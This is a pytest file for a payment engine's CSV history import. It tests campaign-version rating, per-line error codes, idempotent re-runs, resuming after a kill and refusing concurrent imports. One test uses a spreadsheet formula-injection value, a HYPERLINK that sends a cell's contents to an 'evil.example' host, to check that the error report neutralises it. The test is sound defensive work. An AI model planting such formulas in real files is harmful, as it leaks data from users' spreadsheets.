"""`setapay import` (issue 14, item 4): the program's history through the ledger, on SQLite and PostgreSQL.

The ward's configuration is entered as of the program's start (a `ManualClock` in
the past), a campaign version changes mid-history, and the engine's clock is
then moved to "now". Imported payments must carry the awards of the version in
force at their instant, reconciliation (which re-rates every payment with the
kernel under what was in force when it was accepted) must agree, bad lines
must be reported one by one and write nothing, and a second run imports nothing.
A real `setapay import` process killed with SIGKILL and re-run gives every
payment id exactly once.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import signal
import subprocess
import sys
import time

import pytest
from sqlalchemy import func, select, text

from engine.importing import COLUMNS, HeaderError, Line, LineError, Reader
from engine.store import queries, rerate
from engine.store.importer import import_history
from engine.store.models import AwardRow, IdempotencyRow, PaymentRow
from engine.timeutil import TOKYO, to_us
from tests.lifecycle.support import Books, campaign
from tests.server import REPO, run_cli, setapay_env

START = dt.datetime(2026, 1, 5, 9, tzinfo=TOKYO)  # the configuration is entered then
V2_AT = dt.datetime(2026, 2, 1, tzinfo=TOKYO)  # campaign C1 goes from 10% to 5%
NOW = dt.datetime(2026, 6, 1, 9, tzinfo=TOKYO)  # the engine's clock when importing

HEADER = ",".join(COLUMNS)


def at(day: int, month: int = 1, hour: int = 10) -> str:
    return dt.datetime(2026, month, day, hour, tzinfo=TOKYO).isoformat()


def row(pid, kind, wallet, merchant, terminal, occurred, amount, points="", items="", original="") -> list[str]:
    return [pid, kind, wallet, merchant, terminal, occurred, str(amount), str(points), items, original]


def csv_text(rows: list[list[str]], raw: dict[int, str] | None = None) -> str:
    """The file: header, then `rows`; `raw` puts a literal line at an index instead."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    out.write(HEADER + "\n")
    for i, r in enumerate(rows):
        if raw and i in raw:
            out.write(raw[i] + "\n")
        else:
            writer.writerow(r)
    return out.getvalue()


ITEMS = json.dumps([{"amount": 600, "tags": ["food"]}, {"amount": 400, "tags": []}])
ROWS = [
    row("P1", "purchase", "W1", "M1", "T1", at(10), 1000),  # line 2: v1, 100 points
    row("P2", "purchase", "W1", "M1", "T1", at(11), 1000, 0, ITEMS),  # line 3: items with tags
    row("R1", "refund", "", "", "T1", at(12), 500, "", "", "P1"),  # line 4: its original in the same group
    row("P3", "purchase", "W1", "M1", "T1", at(12), "abc"),  # line 5: bad_field
    row("P4", "refund", "", "", "T1", at(12), 100, "", "", "NOPE"),  # line 6: unknown_original
    row("P2", "purchase", "W1", "M1", "T1", at(12), 1000),  # line 7: duplicate_in_file
    [],  # line 8: bad_csv (raw)
    row("P5", "purchase", "W2", "M1", "T1", at(13), 6000, 5000),  # line 9: insufficient_points
    row("P6", "purchase", "W1", "M2", "T2", at(10, 2), 2000, 100),  # line 10: v2, points used
    row("P7", "purchase", "W3", "M2", "T2", at(11, 2), 1000),  # line 11: v2, 50 points
    row("P8", "purchase", "W3", "M2", "T2", at(10, 2), 1000),  # line 12: out_of_order
    row("P9", "purchase", "W3", "M2", "T2", "2027-01-01T00:00:00+09:00", 1000),  # line 13: in_future
    row("R2", "refund", "", "", "T1", at(12, 2), 100, "", "", "P6"),  # line 14: refund_merchant_mismatch
    row("P10", "purchase", "W3", "M2", "T1", at(12, 2), 1000),  # line 15: forbidden (T1 is M1's)
    row("R3", "refund", "", "", "T2", at(13, 2), 1000, "", "", "P7"),  # line 16: full refund of P7
    row("P11", "purchase", "W1", "M1", "T1", at(14, 2), 1000, 0, '[{"amount": 999}]'),  # line 17: bad_field
    row("P13", "purchase", "W1", "M1", "T1", at(14, 2), 1000, 0, "[]"),  # line 18: bad_field (no items listed)
]
RAW = {6: "P12,purchase,W1,M1"}
IMPORTED = {"P1", "P2", "R1", "P6", "P7", "R3"}
ERRORS = {
    5: "bad_field",
    6: "unknown_original",
    7: "duplicate_in_file",
    8: "bad_csv",
    9: "insufficient_points",
    12: "out_of_order",
    13: "in_future",
    14: "refund_merchant_mismatch",
    15: "forbidden",
    17: "bad_field",
    18: "bad_field",
}


@pytest.fixture
def books(database_url):
    b = Books(database_url, start=START)
    b.setup({"M1": ["T1"], "M2": ["T2"]}, [campaign("C1")])
    b.at(V2_AT)
    b.config.update_campaign("C1", {"tiers": [{"match": {}, "rate_bp": 500}]})
    b.at(NOW)
    try:
        yield b
    finally:
        b.close()


def run_import(books: Books, text: str, **options) -> tuple[dict, list[dict]]:
    errors = io.StringIO()
    report = import_history(books.ledger, io.StringIO(text), errors, **options)
    return report.summary(), list(csv.DictReader(io.StringIO(errors.getvalue())))


def imported(books: Books) -> dict[str, PaymentRow]:
    with books.engine.connect() as c:
        return {r.receipt_jti: r for r in c.execute(select(PaymentRow))}


def test_import_rates_under_the_versions_in_force_and_reports_bad_lines(books: Books) -> None:
    summary, errors = run_import(books, csv_text(ROWS, RAW), group=3)
    assert {int(e["line"]): e["code"] for e in errors} == ERRORS, errors
    assert all(e["message"] for e in errors)
    assert next(e["message"] for e in errors if e["line"] == "18").startswith("items: "), errors
    assert summary["imported"] == len(IMPORTED) and summary["errors"] == len(ERRORS)
    assert summary["rows"] == len(ROWS)

    payments = imported(books)
    assert set(payments) == IMPORTED  # nothing of a bad line
    assert {p.receipt_app_id for p in payments.values()} == {"import"}
    # Every payment is accepted at a past instant no earlier than it happened, in order.
    stamps = [p.accepted_at_us for p in sorted(payments.values(), key=lambda p: p.sequence)]
    assert stamps == sorted(stamps) and stamps[-1] < books.clock.now_us()
    assert all(p.accepted_at_us >= p.occurred_at_us for p in payments.values())
    assert payments["R1"].original_id == payments["P1"].id and payments["R3"].original_id == payments["P7"].id
    with books.engine.connect() as c:
        awards = {(a.payment_id, a.campaign_version): a for a in c.execute(select(AwardRow))}
        remembered = c.execute(select(func.count()).select_from(IdempotencyRow)).scalar()
    assert remembered == 0  # imported once by their receipts; declined lines write nothing
    by_id = {p.id: jti for jti, p in payments.items()}
    versions = {by_id[pid]: (v, a.points, a.clawed_back) for (pid, v), a in awards.items()}
    assert versions["P1"] == (1, 100, 50)  # 10% under v1; half refunded
    assert versions["P2"] == (1, 100, 0)
    assert versions["P6"][0] == 2
    assert versions["P7"] == (2, 50, 50)  # 5% under v2; refunded in full

    # Reconciliation re-rates every payment under what was in force at its acceptance: it agrees.
    check = rerate.rerate_check(books.engine)
    assert check["ok"], check["mismatches"]
    assert check["checked"] == len(IMPORTED)
    assert queries.ledger_check(books.engine)["ok"]

    # A second run imports nothing and keeps the same per-line errors (bar the ledger's, whose
    # rows are now older than the ledger's last payment).
    again, errors_again = run_import(books, csv_text(ROWS, RAW))
    assert again["imported"] == 0 and again["already_imported"] == len(IMPORTED)
    assert {int(e["line"]) for e in errors_again} == set(ERRORS)
    assert set(imported(books)) == IMPORTED
    assert rerate.rerate_check(books.engine)["ok"]


def test_a_refund_of_an_earlier_import_and_rows_before_the_ledger_end(books: Books) -> None:
    run_import(books, csv_text(ROWS[:2]))
    later = [
        row("R9", "refund", "", "", "T1", at(20), 1000, "", "", "P2"),  # original from the first run
        row("P20", "purchase", "W1", "M1", "T1", at(1, 1), 1000),  # before the ledger's last payment
    ]
    summary, errors = run_import(books, csv_text(later))
    assert summary["imported"] == 1
    assert [(e["line"], e["code"]) for e in errors] == [("3", "out_of_order")]
    payments = imported(books)
    assert payments["R9"].original_id == payments["P2"].id
    assert rerate.rerate_check(books.engine)["ok"]


def test_a_payment_id_imported_before_on_a_later_line_is_already_imported(books: Books) -> None:
    # Lines after the latest instant imported from the source are not looked up (they cannot
    # be there from a run of the same file); an id imported before from another file is caught
    # by the ledger's receipt check and counted as imported already, writing nothing.
    first, _ = run_import(books, csv_text(ROWS[:2]))
    assert first["imported"] == 2
    before = imported(books)
    later = [
        row("P1", "purchase", "W9", "M1", "T1", at(20), 3000),  # P1 again, a later instant
        row("P30", "purchase", "W9", "M1", "T1", at(21), 1000),
    ]
    summary, errors = run_import(books, csv_text(later))
    assert (summary["imported"], summary["already_imported"], errors) == (1, 1, [])
    payments = imported(books)
    assert set(payments) == {"P1", "P2", "P30"}
    assert payments["P1"].id == before["P1"].id and payments["P1"].amount == 1000
    assert queries.ledger_check(books.engine)["ok"] and rerate.rerate_check(books.engine)["ok"]


def test_a_refund_naming_another_wallet_or_merchant_than_its_original_is_refused(books: Books) -> None:
    """The layout leaves a refund's wallet_id and merchant_id empty (its original's). Given, they
    were ignored: a refund the file says is W2's clawed back from W1's purchase. Given, they must
    be the original's, whether it is earlier in the file or was imported by an earlier run."""
    run_import(books, csv_text([row("P1", "purchase", "W1", "M1", "T1", at(10), 5000)]))
    lines = [
        row("P2", "purchase", "W2", "M1", "T1", at(11), 8000),
        row("R1", "refund", "W1", "", "T1", at(12), 100, "", "", "P2"),  # line 3: P2 is W2's
        row("R2", "refund", "", "M2", "T1", at(12), 100, "", "", "P2"),  # line 4: P2 is M1's
        row("R3", "refund", "W2", "M1", "T1", at(12), 100, "", "", "P2"),  # line 5: its original's
        row("R4", "refund", "W2", "", "T1", at(13), 100, "", "", "P1"),  # line 6: P1 (earlier run) is W1's
        row("R5", "refund", "W1", "M1", "T1", at(13), 100, "", "", "P1"),  # line 7: its original's
        ["  "],  # line 8: only spaces, a blank line
    ]
    summary, errors = run_import(books, csv_text(lines) + "   ")  # and a last line of spaces
    assert [(e["line"], e["payment_id"], e["code"]) for e in errors] == [
        ("3", "R1", "bad_field"),
        ("4", "R2", "bad_field"),
        ("6", "R4", "bad_field"),
    ]
    assert "'W1' is not that of the purchase it refunds ('P2': 'W2')" in errors[0]["message"].replace("wallet_id ", "")
    assert summary["imported"] == 3
    payments = imported(books)
    assert {"R1", "R2", "R4"}.isdisjoint(payments)
    assert payments["R3"].original_id == payments["P2"].id and payments["R5"].original_id == payments["P1"].id
    assert queries.ledger_check(books.engine)["ok"]


def test_one_import_at_a_time(books: Books) -> None:
    """Two imports at once each read the ledger's last stamp once and interleaved their groups:
    stamps went back, and a redemption spent points earned later in the history (helper-99). A
    second import is refused at once and writes nothing."""
    from engine.store import db
    from engine.store.importer import IMPORT_LOCK, ImportBusy

    with db.alone(books.engine, IMPORT_LOCK, wait=False), pytest.raises(ImportBusy):  # another import is running
        run_import(books, csv_text(ROWS[:2]))
    assert imported(books) == {}
    summary, _ = run_import(books, csv_text(ROWS[:2]))
    assert summary["imported"] == 2


def test_a_last_line_cut_short_is_reported_not_imported(books: Books) -> None:
    """A file cut inside its last line's last field imported what was left of it: a refund of P12
    cut to `P1` refunded P1, and the re-run of the whole file skipped it by its id (helper-99).
    A last line without its line ending is reported; once the file is whole it is imported."""
    whole = csv_text(
        [
            row("P1", "purchase", "W1", "M1", "T1", at(10), 5000),
            row("P12", "purchase", "W2", "M1", "T1", at(11), 8000),
            row("R5", "refund", "", "", "T1", at(12), 4000, "", "", "P12"),
        ]
    )
    cut = whole[: whole.rindex("P12")] + "P1"  # the last line cut two bytes short, no newline
    summary, errors = run_import(books, cut)
    assert [(e["line"], e["payment_id"], e["code"]) for e in errors] == [("4", "R5", "incomplete_line")]
    assert summary["imported"] == 2 and "R5" not in imported(books)
    summary, errors = run_import(books, whole)
    assert (summary["imported"], summary["already_imported"], errors) == (1, 2, [])
    payments = imported(books)
    assert payments["R5"].original_id == payments["P12"].id


def test_a_stray_quote_names_the_lines_it_took(books: Books) -> None:
    text = (
        csv_text(
            [row("P1", "purchase", "W1", "M1", "T1", at(10), 1000)],
            raw={0: "P1,purchase,W1,M1,T1," + at(10) + ',1000,,"[oops,'},
        )
        + "P2,purchase,W1,M1,T1,"
        + at(11)
        + ",1000,,,\n"
        + "P3,purchase,W1,M1,T1,"
        + at(12)
        + ',1000,,,"\n'
    )
    _, errors = run_import(books, text)
    assert [(e["code"], e["line"]) for e in errors][:1] == [("bad_csv", "2")], errors
    assert "lines 2–" in errors[0]["message"], errors


def test_the_reader_checks_the_header_and_each_line() -> None:
    with pytest.raises(HeaderError):
        list(Reader().read(io.StringIO("payment_id,type\nP1,purchase\n")))
    with pytest.raises(HeaderError):
        list(Reader().read(io.StringIO("")))
    text = csv_text(
        [
            row("P1", "purchase", "W1", "M1", "T1", at(10), 1000, 1001),  # points over the amount
            row("P2", "purchase", "W1", "M1", "T1", "2026-01-10 10:00", 1000),  # no offset
            row("P3", "sale", "W1", "M1", "T1", at(10), 1000),
            row("P4", "refund", "", "", "T1", at(10), 1000),  # no original
            row("P5", "purchase", "W1", "M1", "T1", at(10), 1.5),
            row("P6", "purchase", "W1", "M1", "T1", at(10), 1000, 0, "[1,"),
            row("P7", "purchase", "W1", "M1", "T1", at(10), 1000, 0, '[{"amount": 1000, "tags": ["a b"]}]'),
            row("P 8", "purchase", "W1", "M1", "T1", at(10), 1000),
            row("P10", "purchase", "W1", "M1", "T1", at(10), 1000, 0, "[" * 5000 + "]" * 5000),  # RecursionError
            row("P9", "purchase", "W1", "M1", "T1", at(10), 1000, "", '[{"amount": 1000, "tags": ["eco"]}]'),
        ]
    )
    out = list(Reader().read(io.StringIO(text)))
    assert [type(x).__name__ for x in out] == ["LineError"] * 9 + ["Line"]
    assert all(isinstance(x, LineError) and x.code == "bad_field" for x in out[:9])
    good = out[9]
    assert isinstance(good, Line) and good.line == 11 and good.body.items is not None
    assert good.body.items[0].tags == ("eco",)


def history_file(path, n: int) -> None:
    """`n` purchases (with a refund every 50th) between January and May, in time order."""
    first = dt.datetime(2026, 1, 6, tzinfo=TOKYO)
    step = (dt.datetime(2026, 5, 30, tzinfo=TOKYO) - first) / n
    with open(path, "w", newline="") as f:
        writer = csv.writer(f, lineterminator="\n")
        f.write(HEADER + "\n")
        for i in range(n):
            instant = (first + step * i).isoformat()
            if i % 50 == 49:  # a refund of the purchase just before, which is M2's (even)
                writer.writerow(row(f"R{i}", "refund", "", "", "T2", instant, 100, "", "", f"P{i - 1}"))
            else:
                terminal, merchant = ("T1", "M1") if i % 2 else ("T2", "M2")
                writer.writerow(row(f"P{i}", "purchase", f"W{i % 997}", merchant, terminal, instant, 500 + i % 3000))


def test_a_killed_import_resumes_to_exactly_one_payment_per_id(postgres_url, tmp_path) -> None:
    books = Books(postgres_url, start=START)
    try:
        books.setup({"M1": ["T1"], "M2": ["T2"]}, [campaign("C1")])
        books.at(V2_AT)
        books.config.update_campaign("C1", {"tiers": [{"match": {}, "rate_bp": 500}]})
        n = 20_000
        path = tmp_path / "history.csv"
        history_file(path, n)
        command = [sys.executable, "-m", "engine.cli", "import", str(path), "--group", "500"]
        env = setapay_env(postgres_url)
        first = subprocess.Popen(command, cwd=REPO, env=env, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        try:
            deadline = time.monotonic() + 120
            while time.monotonic() < deadline:
                with books.engine.connect() as c:
                    count = c.execute(select(func.count()).select_from(PaymentRow)).scalar()
                if count >= 2_000 or first.poll() is not None:
                    break
                time.sleep(0.05)
            assert first.poll() is None, "the import ended before it could be killed"
            os.kill(first.pid, signal.SIGKILL)
        finally:
            first.wait()
        assert 0 < count < n
        done = subprocess.run(command, cwd=REPO, env=env, capture_output=True, text=True, timeout=600)
        assert done.returncode == 0, done.stderr[-2000:]
        summary = json.loads(done.stdout.strip().splitlines()[-1])
        assert summary["errors"] == 0 and summary["imported"] + summary["already_imported"] == n
        assert summary["already_imported"] >= count
        with books.engine.connect() as c:
            total, distinct = c.execute(
                select(func.count(), func.count(func.distinct(PaymentRow.receipt_jti))).select_from(PaymentRow)
            ).one()
        assert total == distinct == n
        check = rerate.rerate_check(books.engine)
        assert check["ok"], check["mismatches"]
        assert queries.ledger_check(books.engine)["ok"]
    finally:
        books.close()


def test_the_command_reports_bad_lines_and_refuses_a_file_without_the_header(sqlite_url, tmp_path) -> None:
    books = Books(sqlite_url, start=START)
    try:
        books.setup({"M1": ["T1"], "M2": ["T2"]}, [campaign("C1")])
        env = setapay_env(sqlite_url)
        path = tmp_path / "history.csv"
        path.write_text(csv_text(ROWS[:4]), encoding="utf-8")
        done = run_cli(env, "import", str(path), "--errors", str(tmp_path / "bad.csv"), in_process=True)
        assert done.returncode == 1, done.stderr  # a line was refused
        summary = json.loads(done.stdout.strip().splitlines()[-1])
        assert (summary["imported"], summary["errors"]) == (3, 1)
        assert summary["errors_file"] == str(tmp_path / "bad.csv")
        report = list(csv.DictReader((tmp_path / "bad.csv").open(encoding="utf-8")))
        assert [(r["line"], r["payment_id"], r["code"]) for r in report] == [("5", "P3", "bad_field")]
        again = run_cli(env, "import", str(path), in_process=True)
        assert json.loads(again.stdout.strip().splitlines()[-1])["already_imported"] == 3
        assert (tmp_path / "history.csv.errors.csv").exists()  # the default report, next to the file

        path.write_text("\n".join(HEADER.split(",")[:3]) + "\n", encoding="utf-8")
        refused = run_cli(env, "import", str(path), in_process=True)
        assert refused.returncode == 2 and "header" in refused.stderr
        path.write_bytes(HEADER.encode() + b"\nP1,purchase,W\xff,M1,T1,2026-01-10T10:00:00+09:00,1,,,\n")
        assert run_cli(env, "import", str(path), in_process=True).returncode == 2  # not UTF-8
        assert run_cli(env, "import", str(tmp_path / "missing.csv"), in_process=True).returncode == 2
        assert set(imported(books)) == {"P1", "P2", "R1"}

        # Excel's "CSV UTF-8" starts with a byte-order mark: read as the header it precedes. A payment
        # id that reads as a formula is quoted back as text in the report (helper-82).
        formula = '=HYPERLINK("http://evil.example/"&A1)'
        bad_line = row(formula, "purchase", "W1", "M1", "T1", at(20), 1000)
        path.write_bytes(b"\xef\xbb\xbf" + csv_text([bad_line]).encode())
        with_bom = run_cli(env, "import", str(path), "--errors", str(tmp_path / "bom.csv"), in_process=True)
        assert with_bom.returncode == 1 and "header" not in with_bom.stderr, with_bom.stderr
        report = list(csv.DictReader((tmp_path / "bom.csv").open(encoding="utf-8")))
        assert [(r["payment_id"], r["code"]) for r in report] == [("'" + formula, "bad_field")]

        # A second import while one runs is refused before it opens anything: it truncated the
        # running import's error report, whose refused lines then appeared nowhere (helper-100).
        from engine.store import db
        from engine.store.importer import IMPORT_LOCK

        with db.alone(books.engine, IMPORT_LOCK, wait=False):  # the running one (any process)
            busy = run_cli(env, "import", str(path), "--errors", str(tmp_path / "bom.csv"))
        assert busy.returncode == 2 and "another import is running" in busy.stderr, busy.stderr
        assert [(r["payment_id"], r["code"]) for r in csv.DictReader((tmp_path / "bom.csv").open())] == [
            ("'" + formula, "bad_field")
        ]
    finally:
        books.close()


def test_the_history_is_credited_and_expired_day_by_day_as_it_was(database_url) -> None:
    """A dekad point-back earned in the history is credited on its crediting day before the
    redemption that spent it; points of a lot that had expired by then cannot be spent."""
    b = Books(database_url, start=START)
    try:
        b.setup(
            {"M1": ["T1"]},
            [
                campaign("C_DEKAD", credit={"schedule": "dekad", "delay_business_days": 5}),
                campaign("C_SHORT", validity_months=1),
            ],
        )
        b.at(NOW)
        rows = [
            # W1 earns 100 pending (dekad, credited in late January) and 100 at once.
            row("E1", "purchase", "W1", "M1", "T1", at(6), 1000),
            # Before the crediting day only the immediate 100 are spendable.
            row("S1", "purchase", "W1", "M1", "T1", at(8), 500, 150),  # insufficient_points
            # After it, the dekad 100 are spendable too.
            row("S2", "purchase", "W1", "M1", "T1", at(2, 2), 500, 150),
            # W2's immediate points (C_SHORT, one month) expire at the end of February.
            row("E2", "purchase", "W2", "M1", "T1", at(7), 1000),
            row("S3", "purchase", "W2", "M1", "T1", at(5, 3), 500, 100),  # C_SHORT's 100 expired: 100 dekad left
            row("S4", "purchase", "W2", "M1", "T1", at(6, 3), 500, 101),  # insufficient_points
        ]
        rows.sort(key=lambda r: r[5])
        summary, errors = run_import(b, csv_text(rows))
        assert {e["payment_id"]: e["code"] for e in errors} == {
            "S1": "insufficient_points",
            "S4": "insufficient_points",
        }, errors
        assert summary["imported"] == 4
        with b.engine.connect() as c:
            expired = c.execute(
                text("SELECT COALESCE(SUM(expired), 0) FROM wallet_lot WHERE wallet_id = 'W2'")
            ).scalar()
            runs = c.execute(text("SELECT kind, COUNT(*) FROM lifecycle_run GROUP BY kind")).all()
        assert expired == 100
        assert dict(runs)["credit"] >= 4 and dict(runs)["expiry"] >= 4
        assert rerate.rerate_check(b.engine)["ok"]
        assert queries.ledger_check(b.engine)["ok"]
    finally:
        b.close()


def test_the_history_credits_lots_with_the_validity_in_force_then(database_url) -> None:
    """A campaign's validity changed after the history: the lots its crediting runs made
    during the import expire as the validity of then says, as the purchase's answer did."""
    b = Books(database_url, start=START)
    try:
        b.setup({"M1": ["T1"]}, [campaign("C1", validity_months=1, credit={"schedule": "dekad"})])
        b.at(V2_AT + dt.timedelta(days=60))
        b.config.update_campaign("C1", {"validity_months": 12})
        b.at(NOW)
        rows = [
            row("P1", "purchase", "W1", "M1", "T1", at(8), 1000),
            row("P2", "purchase", "W2", "M1", "T1", at(10, 2), 1000),
        ]
        summary, errors = run_import(b, csv_text(rows))
        assert summary["imported"] == 2 and not errors
        with b.engine.connect() as c:
            answer = json.loads(c.execute(text("SELECT response_json FROM payment WHERE receipt_jti = 'P1'")).scalar())
            (lot_expires,) = c.execute(
                text("SELECT expires_at_us FROM wallet_lot WHERE source_id = :p"), {"p": answer["id"]}
            ).one()
        promised = answer["awards"][0]["expires_at"]
        assert lot_expires == to_us(dt.datetime.fromisoformat(promised))
        assert promised.startswith("2026-03-01")  # one month after January's crediting
    finally:
        b.close()


def test_the_import_analyzes_the_tables_it_reads_by_lists_of_keys(postgres_url, tmp_path, monkeypatch) -> None:
    """Without statistics PostgreSQL scans the whole award table for a group's originals; the
    import analyzes them itself (autovacuum may lag behind a bulk load, or be off)."""
    from engine.store import importer

    monkeypatch.setattr(importer, "ANALYZE_FIRST", 40)
    monkeypatch.setattr(importer, "ANALYZE_GROWTH", 2)
    b = Books(postgres_url, start=START)
    try:
        b.setup({"M1": ["T1"], "M2": ["T2"]}, [campaign("C1")])
        b.at(NOW)
        with b.engine.connect() as c:
            c.execute(text("SELECT pg_stat_clear_snapshot()"))
            before = dict(c.execute(text("SELECT relname, analyze_count FROM pg_stat_user_tables")).all())
        path = tmp_path / "history.csv"
        history_file(path, 400)
        summary, errors = run_import(b, path.read_text(), group=50)
        assert summary["imported"] + len(errors) == 400 and summary["tables_analyzed"] >= 2  # at 40, 80, 160, ...
        with b.engine.connect() as c:
            c.execute(text("SELECT pg_stat_clear_snapshot()"))
            after = dict(c.execute(text("SELECT relname, analyze_count FROM pg_stat_user_tables")).all())
        for table in ("payment", "award", "redemption_leg", "point_lot", "wallet_debt", "wallet_window_usage"):
            assert after[table] >= before.get(table, 0) + 2, table
    finally:
        b.close()


def test_an_analyze_that_fails_only_costs_speed(postgres_url, tmp_path, monkeypatch, caplog) -> None:
    from engine.store import importer

    class Missing:
        __tablename__ = "no_such_table"

    monkeypatch.setattr(importer, "ANALYZE_FIRST", 40)
    monkeypatch.setattr(importer, "ANALYZED", (PaymentRow, Missing))
    b = Books(postgres_url, start=START)
    try:
        b.setup({"M1": ["T1"], "M2": ["T2"]}, [campaign("C1")])
        b.at(NOW)
        path = tmp_path / "history.csv"
        history_file(path, 200)
        summary, errors = run_import(b, path.read_text(), group=50)
        assert summary["imported"] + len(errors) == 200 and summary["imported"] > 150
        assert summary["tables_analyzed"] == 0
        assert "could not analyze" in caplog.text
        assert len(imported(b)) == summary["imported"]
    finally:
        b.close()
